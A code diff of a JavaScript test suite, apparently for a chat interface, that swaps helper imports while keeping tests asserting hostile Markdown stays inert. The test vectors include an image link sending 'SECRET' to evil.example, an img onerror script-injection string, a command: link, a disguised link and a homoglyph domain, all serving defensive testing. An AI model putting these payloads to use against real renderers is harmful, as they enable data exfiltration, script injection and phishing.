@@ -1,7 +1,7 @@
 // Markdown that attacks: nothing runs, nothing is fetched, nothing is posted, nothing leads anywhere but through the host.
 import assert from "node:assert/strict";
 import { existsSync, readFileSync } from "node:fs";
-import { parts, snapshot } from "./script.mjs";
+import { call, change, event, model, result, snapshot, started, user } from "./told.mjs";
 
 const own = [
 	"![x](https://evil.example/?d=SECRET)",
@@ -53,7 +53,6 @@ export function attacks(test, open) {
 		test(`hostile Markdown does nothing, ${way} (${vectors.length} vectors)`, async () => {
 			const { chat, send, posted, errors, requests } = await open();
 			for (const [id, markdown] of vectors) {
-				const { user, started, model } = parts;
 				const head = [user(`vector ${id}.`), started("planner")];
 				const update =
 					way === "whole"
@@ -81,7 +80,6 @@ export function attacks(test, open) {
 	test("hostile words are words in everything around an answer: mentions, queue, lists, summaries, outputs, and what is found", async () => {
 		const { chat, send, posted, errors, requests } = await open();
 		const evil = "<img src=https://evil.example/x onerror=alert(1)><mark class=primary>x</mark> [a](command:x) @https://evil.example \"'>";
-		const { event, user, started, model, call, result, change } = parts;
 		const attachment = (kind) => ({ kind, label: evil, text: evil, path: evil });
 		const kinds = ["file", "folder", "symbol", "selection", "problems", "terminal", "changes", "url"];
 		const events = [
@@ -152,7 +150,7 @@ export function attacks(test, open) {
 		const { chat, send, posted } = await open();
 		await send(
 			snapshot([
-				parts.model({
+				model({
 					text: "[https://github.com](https://evil.example/?a=b) [docs](https://nodejs.org/api) https://example.com/x [aррӏе](https://аррӏе.com/)",
 				}),
 			]),
